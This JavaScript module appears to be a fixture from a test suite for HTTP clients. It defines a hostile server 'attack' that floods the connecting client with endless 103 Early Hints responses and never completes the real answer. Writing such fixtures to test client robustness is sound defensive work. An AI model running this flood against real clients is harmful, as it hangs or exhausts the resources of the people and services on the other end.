const { serve } = require('./attempt.js')

/** What goes out on the connection, past the server's own notion of an answer. */
const answer = (socket) => {
  const more = () => {
    while (!socket.destroyed && socket.write('HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n'));
    socket.once('drain', more)
  }
  more()
}

module.exports = serve({
  attack: ({ response }) => {
    answer(response.socket)
    return new Promise(() => {})
  },
})
